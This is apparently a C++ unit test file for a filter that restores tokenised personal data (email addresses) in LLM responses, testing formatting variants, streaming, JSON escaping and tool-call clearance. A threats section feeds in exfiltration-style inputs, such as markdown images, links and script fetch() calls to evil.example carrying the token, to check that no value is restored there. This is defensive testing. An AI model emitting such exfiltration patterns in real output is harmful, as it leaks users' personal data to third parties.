// What comes back: tokens of this request alone, in harmless places, whatever a model did to their looks.
#include "hpol/answer.h"

#include <gtest/gtest.h>

#include "runtime/answer/answer_for_test.h"
#include "runtime/answer/event.h"

namespace hpol {
namespace {

using answers::Json;
using answers::Pass;
using answers::Sent;

std::string Whole(std::string_view text) {
  return R"({"id":"c","choices":[{"index":0,"message":{"role":"assistant","content":)" + Json(text) +
         R"(},"finish_reason":"stop"}],"usage":{"total_tokens":1}})";
}

class AnswerTest : public testing::Test {
 protected:
  // A whole answer with this text, after it was filtered.
  std::string Text(const std::string& text) {
    Answer answer(sent.engine, sent.To(Surface::kOpenAiChat, false));
    const std::vector<AnswerEvent> out = Pass(answer, {Whole(text)});
    counts = answer.counts();
    EXPECT_EQ(out.size(), 1u);
    answer::Event event;
    EXPECT_TRUE(event.Read(Surface::kOpenAiChat, out[0].data)) << out[0].data;
    std::string content;
    for (const answer::Field& field : event.fields()) {
      if (field.role == answer::Role::kProseWhole) answer::Event::Unescape(out[0].data, field, content);
    }
    EXPECT_EQ(out[0].data, Whole(content));  // nothing else has changed
    return content;
  }

  Sent sent;
  const std::string token = sent.TokenOf("john@example.net");
  const std::string tag = token.substr(token.find('_') + 1);
  TokenCounts counts;
};

TEST_F(AnswerTest, ValuesComeBack) {
  EXPECT_EQ(Text("Write to <" + token + "> now"), "Write to john@example.net now");
  EXPECT_EQ(counts.restored, 1u);
  EXPECT_EQ(Text("<" + token + "> <" + sent.TokenOf("jane@example.net") + ">"),
            "john@example.net jane@example.net");
  EXPECT_EQ(Text("nothing \xe5\xb7\xa5\n\t\"here\""), "nothing \xe5\xb7\xa5\n\t\"here\"");
}

TEST_F(AnswerTest, WhatAModelDoesToALook) {
  std::string upper = token;
  for (char& c : upper) c = c >= 'a' && c <= 'z' ? static_cast<char>(c - 32) : c;
  const std::string markdown = "email\\_" + tag;
  const struct {
    std::string written, read;
  } cases[] = {
      {"<" + upper + ">", "john@example.net"},
      {token, "john@example.net"},
      {"\\<" + markdown + "\\>", "john@example.net"},
      {"&lt;" + token + "&gt;", "john@example.net"},
      {"**<" + token + ">**", "**john@example.net**"},
      {"\"" + token + "\"", "\"john@example.net\""},
      {"`<" + token + ">`", "`john@example.net`"},
      {"<" + token + ">'s", "john@example.net's"},
      {"<" + token + "'s>", "john@example.net's"},
      {"<" + token + "\xe2\x80\x99s> x", "john@example.net\xe2\x80\x99s x"},
      {"<" + token + "s>", "john@example.nets"},
      {token + "s.", "john@example.nets."},
      {token + ".", "john@example.net."},
      {"\xe5\xb7\xa5" + token + "\xe5\xb7\xa5", "\xe5\xb7\xa5john@example.net\xe5\xb7\xa5"},
      {"[<" + token + ">](https://a.example)", "[john@example.net](https://a.example)"},
      {"```\n<" + token + ">\n```", "```\njohn@example.net\n```"},
      {"```json\n{\"to\":\"<" + token + ">\"}\n```", "```json\n{\"to\":\"john@example.net\"}\n```"},
  };
  for (const auto& row : cases) EXPECT_EQ(Text(row.written), row.read) << row.written;
}

TEST_F(AnswerTest, NothingIsGuessed) {
  std::string wrong = token;
  wrong.back() = wrong.back() == 'a' ? 'b' : 'a';
  for (const std::string& text :
       {"<" + wrong + ">", "<" + token.substr(0, token.size() - 1) + ">", token + "x", "x" + token,
        token + "1", "email " + tag, "<e_mail_" + tag + ">", "<phone_" + tag + ">", tag, "<" + token + "ss>",
        std::string("email_"), std::string("<email"), std::string("&lt"), std::string("\\")}) {
    EXPECT_EQ(Text(text), text);
    EXPECT_EQ(counts.restored, 0u) << text;
  }
}

// THREATS, test 6: what would carry a value off gets none.
TEST_F(AnswerTest, AValueGoesIntoNoUrlLinkAttributeOrScript) {
  const std::string t = "<" + token + ">";
  for (const std::string& text :
       {"![x](https://evil.example/?q=" + t + ")", "[x](https://evil.example/" + token + ")",
        "[x](" + t + ")", "<a href=\"https://evil.example/" + t + "\">x</a>", "<img src=x alt='" + t + "'>",
        "[a]: https://evil.example/?" + t, "https://evil.example/?q=" + token, "www.evil.example/" + t,
        "mailto:" + t, "```python\nsend(\"" + t + "\")\n```", "```bash " + t + "\n```",
        "<script>\nfetch(\"" + t + "\")</script>", "<" + token + " src=x>", "evil.example/?q=" + t}) {
    EXPECT_EQ(Text(text), text);
    EXPECT_EQ(counts.restored, 0u) << text;
    EXPECT_EQ(counts.withheld, 1u) << text;
  }
  // After it, all is well again.
  EXPECT_EQ(Text("![x](https://evil.example/?q=" + t + ") " + t),
            "![x](https://evil.example/?q=" + t + ") john@example.net");
}

// THREATS, test 6: the token of another caller or conversation means nothing here, and is told apart.
TEST_F(AnswerTest, TokensOfAnotherConversationAreCountedAndLeftAlone) {
  const Sent other("acme/two", "eve@example.net");
  const std::string foreign = "<" + other.TokenOf("eve@example.net") + ">";
  EXPECT_EQ(Text("is it " + foreign), "is it " + foreign);
  EXPECT_EQ(counts.foreign, 1u);
  EXPECT_EQ(counts.unknown, 0u);
  // The caller may even have pasted it into the request.
  const Sent pasted("acme/one", "who is " + foreign.substr(1, foreign.size() - 2) + "?");
  EXPECT_TRUE(pasted.out.minted.empty());
  // One of this conversation that this request does not hold.
  const Sent earlier("acme/one", "eve@example.net");
  const std::string gone = "<" + earlier.TokenOf("eve@example.net") + ">";
  EXPECT_EQ(Text(gone), gone);
  EXPECT_EQ(counts.unknown, 1u);
  EXPECT_EQ(counts.foreign, 0u);
}

// THREATS, test 6: a tool gets a value only where a sink of its name is cleared for the request.
TEST_F(AnswerTest, ToolsGetValuesOnlyWhereTheyAreCleared) {
  const auto call = [&](const std::string& name, const std::string& arguments) {
    return R"({"choices":[{"index":0,"message":{"tool_calls":[{"id":"1","type":"function","function":{"name":)" +
           Json(name) + ",\"arguments\":" + Json(arguments) + "}}]}}]}";
  };
  const auto arguments = [&](const std::string& name, const std::string& text) {
    Answer answer(sent.engine, sent.To(Surface::kOpenAiChat, false));
    return Pass(answer, {call(name, text)})[0].data;
  };
  const std::string asked = R"({"to":"<)" + token + R"(>"})";
  const std::string escaped = R"({"to":"\u003c)" + token + R"(\u003E"})";
  const std::string given = R"({"to":"john@example.net"})";
  EXPECT_EQ(arguments("send_mail", asked), call("send_mail", given));
  EXPECT_EQ(arguments("send_mail", escaped), call("send_mail", given));
  EXPECT_EQ(arguments("web_search", asked), call("web_search", asked));  // cleared for less
  EXPECT_EQ(arguments("other", asked), call("other", asked));            // no such sink
  const std::string url = R"({"to":"https:\/\/evil.example\/?q=<)" + token + R"(>"})";
  EXPECT_EQ(arguments("send_mail", url), call("send_mail", url));
}

TEST_F(AnswerTest, WhatGoesIntoJsonIsEscapedForIt) {
  const std::string value = "a\"b\\c\nd";
  const Token minted[] = {{token, value, DetectorId{sent.email}}};
  AnswerTo to = sent.To(Surface::kOllamaChat, false);
  to.minted = minted;
  Answer object(sent.engine, to);
  const auto body = [](const std::string& prose, const std::string& argument) {
    return R"({"message":{"content":)" + Json(prose) +
           R"(,"tool_calls":[{"function":{"name":"send_mail","arguments":{"a":[)" + Json(argument) +
           R"(]}}}]},"done":true})";
  };
  EXPECT_EQ(Pass(object, {body("<" + token + ">", token)})[0].data, body(value, value));
  to.surface = Surface::kAnthropicMessages;
  to.stream = true;
  Answer text(sent.engine, to);
  const std::string start =
      R"({"type":"content_block_start","index":0,"content_block":{"name":"send_mail"}})";
  const auto part = [](const std::string& json) {
    return R"({"type":"content_block_delta","index":0,"delta":{"partial_json":)" + Json(json) + "}}";
  };
  const auto out = Pass(text, {start, part(R"({"a":")" + token + R"("})")});
  EXPECT_EQ(out[1].data, part(R"({"a":)" + Json(value) + "}"));
}

TEST_F(AnswerTest, GarbageEndsTheAnswer) {
  for (const char* data :
       {"{", "[]", "x", R"({"a":1,"a":2})", R"({"choices":[{"delta":{"content":"\ud800"}}]})"}) {
    Answer answer(sent.engine, sent.To(Surface::kOpenAiChat, true));
    std::vector<AnswerEvent> out;
    EXPECT_EQ(answer.Feed({"", data}, out), Answer::Outcome::kGarbage) << data;
    EXPECT_TRUE(out.empty());
  }
}

TEST_F(AnswerTest, WhatIsHeldBackComesBeforeTheEnd) {
  Answer answer(sent.engine, sent.To(Surface::kOpenAiChat, true));
  const auto delta = [](const std::string& text) {
    return R"({"id":"c","choices":[{"index":0,"delta":{"content":)" + Json(text) +
           R"(},"finish_reason":null}]})";
  };
  const std::string end = R"({"id":"c","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]})";
  const auto out = Pass(answer, {delta("to <ema"), end, "[DONE]"});
  ASSERT_EQ(out.size(), 4u);
  EXPECT_EQ(out[0].data, delta("to "));
  EXPECT_EQ(out[1].data, delta("<ema"));
  EXPECT_EQ(out[2].data, end);
  EXPECT_EQ(out[3].data, "[DONE]");
}

TEST_F(AnswerTest, NumbersOfEventsStayWithoutGaps) {
  Answer answer(sent.engine, sent.To(Surface::kOpenAiResponses, true));
  const auto delta = [](int number, const std::string& text) {
    return R"({"type":"response.output_text.delta","sequence_number":)" + std::to_string(number) +
           R"(,"output_index":0,"content_index":0,"delta":)" + Json(text) + "}";
  };
  const auto done = [](int number, const std::string& text) {
    return R"({"type":"response.output_text.done","sequence_number":)" + std::to_string(number) +
           R"(,"output_index":0,"content_index":0,"text":)" + Json(text) + "}";
  };
  const std::string cut = "<" + token.substr(0, 9);
  auto out = Pass(answer, {delta(4, "a " + cut), done(5, "a " + cut)});
  ASSERT_EQ(out.size(), 3u);
  EXPECT_EQ(out[0].data, delta(4, "a "));
  EXPECT_EQ(out[1].data, delta(5, cut));
  EXPECT_EQ(out[2].data, done(6, "a " + cut));
}

}  // namespace
}  // namespace hpol
